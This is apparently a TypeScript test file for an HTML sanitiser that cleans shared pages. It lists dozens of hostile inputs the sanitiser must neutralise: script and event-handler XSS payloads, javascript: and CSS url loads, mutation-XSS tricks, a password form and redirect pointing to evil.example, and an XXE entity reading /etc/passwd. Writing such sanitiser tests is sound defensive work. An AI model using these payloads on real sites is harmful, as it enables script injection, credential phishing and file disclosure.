/** Whatever is sent as a page, the cleaned page draws and shows text, and does nothing else. */
// Promise [Print, files and shared links] A shared page runs nothing and loads nothing, whatever was submitted as the
//   page.
import * as fc from 'fast-check'
import { expect, test } from 'vitest'
import { cleanPage } from './clean-page.ts'

const NO_POOL = null as never

async function cleaned(html: string): Promise<string> {
  const { body } = await cleanPage(NO_POOL, { uid: '', html: `<p>page</p>${html}` })
  return body.replace('<p>page</p>', '')
}

const TAGS = new Set(
  `section div h2 p dl dt dd table thead tbody tr th td svg g defs path rect circle ellipse line polyline polygon text
  tspan title lineargradient radialgradient stop clippath pattern mask marker`.split(/\s+/),
)
const ATTRIBUTES =
  /^(class|role|tabindex|aria-label|scope|style|fill|[xy][12]?|[cdr][xy]?|width|height|points|transform|viewbox|id|offset|preserveaspectratio|pattern\w+|gradientunits|clippathunits|text-anchor)$/

/**
 * Throws if the text contains a tag or an attribute that is not listed here. The library writes all of them in the same
 * format.
 */
function expectHarmless(html: string): void {
  for (const [tag, name = ''] of html.matchAll(/<\/?([^\s>/]*)[^>]*>/g)) {
    expect([tag, TAGS.has(name)]).toEqual([tag, true])
    for (const [, attribute = '', value = ''] of tag.matchAll(/\s([^\s=]+)="([^"]*)"/g)) {
      expect([tag, ATTRIBUTES.test(attribute)]).toEqual([tag, true])
      expect([tag, /javascript:|data:|https?:|\/\//i.test(value)]).toEqual([tag, false])
      if (attribute === 'style') {
        expect(value.replaceAll(/url\((&quot;)?#[\w-]+(&quot;)?\)/g, '')).not.toMatch(/url|image|position|:\s*fixed|@/i)
      }
    }
    expect(tag.replaceAll(/\s[^\s=]+="[^"]*"/g, '')).toMatch(/^<\/?[a-z0-9]+\s*\/?>$/)
  }
  expect(html.replaceAll(/<[^>]*>/g, '')).not.toMatch(/[<>]/)
}

const HOSTILE: readonly (readonly [name: string, html: string])[] = [
  ['a script', '<script>alert(1)</script>'],
  ['a script in capitals with a space', '<SCRIPT\n>alert(1)</SCRIPT >'],
  ['a script that is not closed', '<script>alert(1)'],
  ['a script within a drawing', '<svg><script>alert(1)</script><script href="data:,alert(1)"/></svg>'],
  ['an image that fails', '<img src=x onerror=alert(1)>'],
  ['handlers of allowed elements', '<p onclick=alert(1)>a</p><td ONMOUSEOVER="alert(1)">b</td>'],
  ['handlers of drawings', '<svg onload=alert(1)><rect onbegin="alert(1)" x="1"/></svg>'],
  ['an animation that sets a link', '<svg><a><animate attributeName=href values=javascript:alert(1) /></a></svg>'],
  ['a set that makes a handler', '<svg><set attributeName="onmouseover" to="alert(1)"/></svg>'],
  ['a link', '<a href="https://evil.example/">Log in again</a>'],
  ['a link in a drawing', '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>'],
  ['a use of something elsewhere', '<svg><use href="https://evil.example/a.svg#x"/></svg>'],
  ['an image in a drawing', '<svg><image href="https://evil.example/a.png"/></svg>'],
  ['HTML in a drawing', '<svg><foreignObject><iframe src="https://evil.example"></iframe></foreignObject></svg>'],
  ['a frame', '<iframe src="https://evil.example"></iframe><iframe srcdoc="<script>alert(1)</script>">'],
  ['an object and an embed', '<object data="x.swf"></object><embed src="x.swf">'],
  ['a form', '<form action="https://evil.example"><input name=password autofocus><button>Log in</button></form>'],
  ['a page that turns to another', '<meta http-equiv="refresh" content="0;url=https://evil.example">'],
  ['a base', '<base href="https://evil.example/">'],
  ['a style sheet', '<style>body{display:none}</style><link rel=stylesheet href=//evil.example/a.css>'],
  ['a style that covers the page', '<div style="position:fixed;inset:0;background:#fff">Log in</div>'],
  ['a style that loads', '<td style="background:url(https://evil.example/a.png)">x</td>'],
  ['a style that loads, hidden by an escape', '<td style="background:u\\72l(https://evil.example)">x</td>'],
  ['a style that loads, hidden by a comment', '<td style="background:u/**/rl(//evil.example)">x</td>'],
  ['a style of an address without a scheme', '<td style="background://evil.example/a.png">x</td>'],
  ['a style that loads a set', '<td style="background:image-set(\'//evil.example\' 1x)">x</td>'],
  ['a style with a second declaration in a string', '<td style=\'color:"a;position:fixed";x:y\'>x</td>'],
  ['a fill that loads', '<svg><rect fill="url(https://evil.example/a.svg#b)"/></svg>'],
  ['an entity in a scheme', '<svg><rect fill="url(java&#115;cript:alert(1))"/></svg>'],
  ['a comment with a condition', '<!--[if IE]><script>alert(1)</script><![endif]-->'],
  ['a comment that ends early', '<!--><script>alert(1)</script>-->'],
  ['a section of characters', '<![CDATA[<script>alert(1)</script>]]>'],
  ['a declaration', '<!DOCTYPE html [<!ENTITY x SYSTEM "file:///etc/passwd">]>&x;'],
  [
    'mathematics',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  ],
  ['text without scripts', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'],
  ['a title in a drawing', '<svg><title><img src=x onerror=alert(1)></title></svg>'],
  ['a title that ends early', '<svg><title>a</title><img src=x onerror=alert(1)>'],
  ['raw text', '<xmp><img src=x onerror=alert(1)></xmp><plaintext><img src=x onerror=alert(1)>'],
  ['an area for text', '<textarea></textarea><img src=x onerror=alert(1)></textarea>'],
  ['a template', '<template><img src=x onerror=alert(1)></template>'],
  ['an attribute with a quote in its name', '<p a"b=1 x="1>2" onclick=alert(1)>x</p>'],
  ['an attribute of nothing', '<p/onclick=alert(1)/class=note>x</p>'],
  ['a class that is not ours', '<div class="product scroll">x</div>'],
  ['the end of the page', '</main></body></html><h1>Yours</h1>'],
  ['something that others hear', '<p aria-live="assertive" contenteditable accesskey=x>x</p>'],
]

// ASVS 1.3.1
test.each(HOSTILE)('%s is harmless', async (_, html) => {
  const body = await cleaned(html)
  expectHarmless(body)
  expect(body).not.toMatch(/<[^>]*(alert|evil|onerror)/)
  // Cleaning a clean page changes nothing.
  expect(await cleaned(body)).toBe(body)
})

// ASVS 1.3.1
test('anything composed of such parts is harmless too', async () => {
  const part = fc.oneof(
    fc.constantFrom(...HOSTILE.map(([, html]) => html)),
    fc.constantFrom('<', '>', '"', "'", '</', '<svg', '<p ', '=', '&lt;', '&#60;', '<!--', '-->', '\0', '`', '<table>'),
    fc.string({ maxLength: 8 }),
  )
  await fc.assert(
    fc.asyncProperty(fc.array(part, { maxLength: 8 }), async (parts) => {
      expectHarmless(await cleaned(parts.join('')))
    }),
  )
})

test('a drawing is not moved as a whole, and what is in it is', async () => {
  const html = '<svg transform="translate(0 -400)"><g transform="scale(2)"><svg TRANSFORM="scale(9)"></svg></g></svg>'
  expect(await cleaned(html)).toBe('<svg><g transform="scale(2)"><svg></svg></g></svg>')
})

test.each([
  ['as it is', 'Net \u202e001+\u202c'],
  ['as an entity', 'Net &#8238;001+&#x202c;'],
  ['isolated', '\u2067Net 001+\u2069'],
  ['as other marks', '\u200fNet\u061c \u202d0\u200e01+'],
])('no mark turns the direction of a text: %s', async (_, text) => {
  expect(await cleaned(`<p>${text}</p><svg aria-label="${text}"><title>${text}</title></svg>`)).toBe(
    '<p>Net 001+</p><svg aria-label="Net 001+"><title>Net 001+</title></svg>',
  )
})

test.each([
  ['12px', true],
  ['13.5px', true],
  ['32px', true],
  ['32.1px', false],
  ['900px', false],
  ['300em', false],
  ['50vh', false],
  ['900%', false],
  ['calc(1px * 999)', false],
  ['var(--huge)', false],
  ['xxx-large', false],
])('a text of %s: %s', async (size, stays) => {
  const html = await cleaned(`<table><tbody><tr><td style="font-size:${size}">W</td></tr></tbody></table>`)
  expect(html.includes('font-size')).toBe(stays)
})

test('what draws figures stays', async () => {
  const html = `<dl class="pairs"><div><dt>Net</dt><dd class="figure win">+•••</dd><dd class="note">3 of 4</dd></div></dl>
<div class="scroll" role="region" tabindex="0" aria-label="Figures by hour"><table>
<thead><tr><th scope="col" class="right">Hour</th></tr></thead>
<tbody><tr><td class="right loss" style="background:color-mix(in srgb, var(--win) 20%, var(--s1))">−1.2 R</td></tr></tbody>
</table></div>
<div class="drawing" style="max-width:720px"><svg viewbox="0 0 10 10" role="img" aria-label="Net"><defs><pattern id="hatch" width="4" height="4"></pattern></defs><path d="M0 0L1 1Z" style="fill:url(&quot;#hatch&quot;);stroke:rgba(0, 0, 0, 0.5);stroke-width:1.5px"></path><rect x="1" style="fill:color-mix(in srgb, var(--win) calc(var(--heat) * 0.35), var(--s2));stroke:color(srgb 0.1 0.2 0.3 / 0.5)"></rect><text x="1" text-anchor="end" style="font-size:12px">Jan &amp; Feb</text></svg></div>`
  expect(await cleaned(html)).toBe(html)
})
